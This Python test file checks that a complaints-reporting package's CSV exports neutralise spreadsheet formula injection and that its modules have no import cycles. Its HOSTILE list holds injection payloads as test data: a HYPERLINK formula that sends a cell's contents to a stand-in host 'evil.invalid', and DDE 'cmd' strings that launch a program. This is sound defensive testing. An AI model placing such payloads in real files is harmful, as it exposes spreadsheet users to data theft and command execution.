"""CSV reports are safe to open in a spreadsheet; the reports package has no import circle."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from complaints.reports.model import Report
from complaints.reports.render import csv_cell, render, to_csv

REPORTS = Path(__file__).resolve().parents[1] / "complaints" / "reports"

#: Texts staff or an integration could put in a category, a reason, a handler id or an
#: exception, each a formula a spreadsheet would run.
HOSTILE = ['=HYPERLINK("https://evil.invalid/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("-5", "-5"), ("-1.5", "-1.5"), ("-2.5e-3", "-2.5e-3"), ("12", "12"),
    ("Repairs", "Repairs"), ("", ""), ("a=b", "a=b"),
])
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value: str, expected: str) -> None:
    """A formula starter gets a leading quote; plain (negative) numbers stay numbers."""
    assert csv_cell(value) == expected


def report(**overrides: Any) -> Report:
    """A small valid report; ``overrides`` replace its fields."""
    stage = {"stage": 1, "responses": 0, "extended": 0, "pct_extended": None,
             "extended_within_new_date": 0, "late_against_final_due": 0,
             "median_working_days": None, "p90_working_days": None,
             "mean_working_days": None, "max_working_days": None, "upheld": 0,
             "partly_upheld": 0, "not_upheld": 0, "pct_upheld": None,
             "pct_partly_upheld": None, "pct_not_upheld": None}
    data: dict[str, Any] = {
        "landlord": "Connexus", "policy": "connexus", "period_label": "2025/26",
        "period_start": dt.date(2025, 4, 1), "period_end": dt.date(2026, 3, 31),
        "as_of": dt.date(2026, 3, 31), "homes": 11_000, "ch02_basis": "with-extension",
        "complaints_logged": 3, "complaints_excluded": 0, "complaints_withdrawn": 0,
        "ch01": [], "ch02": [], "stages": [stage], "acknowledgements": [],
        "resolution": {"resolved_stage1": 0, "resolved_stage2": 0, "pct_stage1": None,
                       "pct_stage2": None, "escalated_after_stage1": 0},
        "channels": [], "categories": [], "monthly": [], "working_days": [],
        "extension_reasons": [], "refusals": [], "remedies": [], "remedies_total_pence": 0,
        "responses_with_financial_remedy": 0,
        "actions": {"due_in_period": 0, "completed_by_due_date": 0, "overdue_at_as_of": 0,
                    "overdue": []},
        "ombudsman": {"referred": 0, "references": []}, "breaches_by_handler": [],
        "breaches_by_team": [], "limits": {"stage1_response": 10}, "method": ["How."],
    }
    data.update(overrides)
    return Report.model_validate(data)


def hostile_report() -> Report:
    """A report whose categories, reasons, handlers, owners and exceptions are formulas."""
    breach = {"stage1_acknowledgements": 1, "stage1_responses": 0,
              "stage2_acknowledgements": 0, "stage2_responses": 0, "total": 1}
    return report(
        categories=[{"name": h, "received": 1, "excluded": 0, "escalated": 0}
                    for h in HOSTILE],
        extension_reasons=[{"stage": 1, "reason": h, "extensions": 1} for h in HOSTILE],
        breaches_by_handler=[{"name": h, **breach} for h in HOSTILE],
        actions={"due_in_period": 1, "completed_by_due_date": 0, "overdue_at_as_of": 1,
                 "overdue": [{"reference": "CMP-2025-000001", "action_id": h, "stage": 1,
                              "due_by": dt.date(2025, 5, 1), "owner": h}
                             for h in HOSTILE]},
        method=HOSTILE,
        evidence=[{"provision": "6.13", "title": h, "requirement": h, "measure": h,
                   "cases": 1, "met": 0, "pct_met": 0.0, "exceptions_total": 1,
                   "exceptions": [{"reference": "CMP-2025-000001", "detail": h}]}
                  for h in HOSTILE])


def cells(text: str) -> list[str]:
    """Every cell of a CSV document."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("evidence_only", [False, True], ids=["report", "evidence"])
def test_no_cell_of_a_csv_report_is_a_formula(evidence_only: bool) -> None:
    """Every hostile text comes out quoted, so no cell starts with a formula character."""
    text = render(hostile_report(), "csv", evidence_only=evidence_only)
    found = cells(text)
    risky = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")
             and not c.lstrip("-").replace(".", "", 1).isdigit()]
    assert risky == []
    for hostile in HOSTILE:
        assert "'" + hostile in found or any(c.endswith(hostile) for c in found)
    assert "'" + HOSTILE[0] in found


def test_csv_report_keeps_its_figures_as_they_were() -> None:
    """Neutralising changes no figure: counts, negative numbers and names read the same."""
    plain = report(categories=[{"name": "Repairs", "received": 4, "excluded": 0,
                                "escalated": 1}],
                   limits={"stage1_response": 10, "offset": -3})
    rows = list(csv.reader(io.StringIO(to_csv(plain))))
    assert ["categories", "Repairs", "received", "4"] in rows
    assert ["limits", "", "offset", "-3"] in rows
    assert ["report", "", "complaints_logged", "3"] in rows


def _imports(path: Path, package: str) -> set[str]:
    """The modules of ``package`` that ``path`` imports, at any depth (functions too)."""
    found: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and node.module:
            names = [node.module] + [f"{node.module}.{a.name}" for a in node.names]
        elif isinstance(node, ast.Import):
            names = [a.name for a in node.names]
        else:
            continue
        found |= {n for n in names if n.startswith(package + ".")
                  and (REPORTS / f"{n.removeprefix(package + '.')}.py").exists()}
    return found


def test_reports_package_has_no_import_circle() -> None:
    """No module of complaints.reports imports, through others, a module that imports it."""
    package = "complaints.reports"
    graph = {f"{package}.{p.stem}": _imports(p, package) for p in REPORTS.glob("*.py")
             if p.stem != "__init__"}
    assert "complaints.reports.queries" in graph["complaints.reports.evidence"]

    def reaches(start: str, target: str, seen: set[str]) -> bool:
        for nxt in graph.get(start, set()):
            if nxt == target or (nxt not in seen and reaches(nxt, target, seen | {nxt})):
                return True
        return False

    circles = sorted(m for m in graph if reaches(m, m, {m}))
    assert circles == []


@pytest.mark.parametrize("module", ["complaints.reports.evidence", "complaints.reports.figures",
                                    "complaints.reports.queries"])
def test_each_reports_module_imports_first_in_a_fresh_interpreter(module: str) -> None:
    """Importing any one of them first, alone, works (no half-initialised module)."""
    result = subprocess.run([sys.executable, "-c", f"import {module}"], capture_output=True,
                            text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stderr
